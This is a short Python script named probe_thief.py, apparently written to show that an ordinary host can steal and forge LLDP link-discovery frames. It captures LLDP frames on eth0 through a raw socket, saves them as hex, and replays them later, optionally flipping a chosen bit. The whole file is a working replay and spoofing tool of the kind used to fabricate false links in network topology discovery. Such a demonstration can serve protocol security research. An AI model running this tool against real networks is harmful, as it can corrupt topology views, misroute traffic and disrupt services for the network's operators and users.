"""What a host can do about link probes: keep those that come to it, change them, and send them whenever it likes.

Usage: probe_thief.py record SECONDS FILE | replay FILE [FLIP]
"""

import socket
import sys
import time

LLDP = 0x88CC


def opened():
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(LLDP))
    raw.bind(("eth0", LLDP))
    return raw


def record(seconds, path):
    raw = opened()
    deadline = time.monotonic() + seconds
    with open(path, "w") as out:
        while (left := deadline - time.monotonic()) > 0:
            raw.settimeout(left)
            try:
                out.write(raw.recv(2048).hex() + "\n")
            except TimeoutError:
                break


def replay(path, flip=None):
    raw = opened()
    with open(path) as kept:
        for line in kept:
            frame = bytearray.fromhex(line)
            if flip is not None:
                frame[flip] ^= 1
            raw.send(frame)


if sys.argv[1] == "record":
    record(float(sys.argv[2]), sys.argv[3])
else:
    replay(sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else None)
